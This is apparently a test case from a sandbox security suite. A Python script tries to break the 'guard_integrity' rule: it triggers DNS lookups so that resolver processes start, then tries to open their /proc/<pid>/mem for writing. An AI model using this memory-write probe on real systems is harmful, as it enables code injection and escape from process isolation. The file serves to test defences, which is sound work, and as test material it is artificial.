# class: machine_code
# rule: guard_integrity
# policy: lookups.yaml
# success: this process's memory is opened for writing under the id of the process that a lookup
#   runs in, which shares it
# proof: word
# needs: resolver
# timeout: 40
import os
import socket
import threading
import time

from attack import attempt

over = threading.Event()


def look():
    while not over.is_set():
        try:
            socket.getaddrinfo("api.allowed.example", 443)
        except OSError:
            pass


def ids():
    for task in os.listdir("/proc/self/task"):
        try:
            with open("/proc/self/task/%s/children" % task) as file:
                for pid in file.read().split():
                    yield pid
        except OSError:
            continue
    yield "self"


@attempt
def write():
    threading.Thread(target=look, daemon=True).start()
    end = time.monotonic() + 4
    while time.monotonic() < end:
        for pid in ids():
            try:
                os.close(os.open("/proc/%s/mem" % pid, os.O_RDWR))
            except OSError:
                continue
            over.set()
            return True
    return False
